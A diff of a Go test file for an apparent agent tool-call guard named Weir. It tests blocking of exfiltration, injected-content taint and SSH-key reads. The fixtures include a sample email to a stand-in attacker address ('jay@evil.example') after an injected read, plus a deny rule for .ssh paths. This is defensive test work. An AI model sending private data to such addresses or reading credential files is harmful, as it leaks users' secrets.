@@ -45,7 +45,7 @@ func TestMessagesGolden(t *testing.T) {
 		{"flow.exfiltration (undecoded)", Decision{Verdict: flow.Block, Rule: RuleExfiltration, Reason: "Weir could not examine all of the arguments of mail/send_email within its decoding bound ($.body), and this session has read private data (from notes/read_note), so it treats what it could not decode as that data"}, "mail/send_email"},
 		{"flow.tainted_args", call("version: 1\npreset: dataflow\n", []read{injected}, mail("to", "jay@evil.example", "body", "receipt")), "mail/send_email"},
 		{"flow.trifecta", call("version: 1\npreset: strict\n", []read{notes, web}, mail("body", "hello")), "mail/send_email"},
-		{"flow.integrity (escalate)", call("version: 1\npreset: integrity\n", []read{web}, mail("body", "hello")), "mail/send_email"},
+		{"flow.integrity (escalate)", call("version: 1\npreset: integrity\n", []read{web}, mail("subject", "tidy desk")), "mail/send_email"},
 		{"default_action", call("version: 1\ndefault_action: deny\n", nil, mail("body", "hello")), "mail/send_email"},
 		{"arguments", call("", []read{notes}, Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: flow.Sink}, Args: []byte(`{"body": "unterminated`)}), "mail/send_email"},
 		{"policy rule", call("version: 1\nrules:\n  - id: ssh-guard\n    match: \"*read_file*\"\n    args:\n      path: {deny: ['(^|/)\\.ssh(/|$)']}\n    because: \"SSH keys are off limits\"\n", nil,
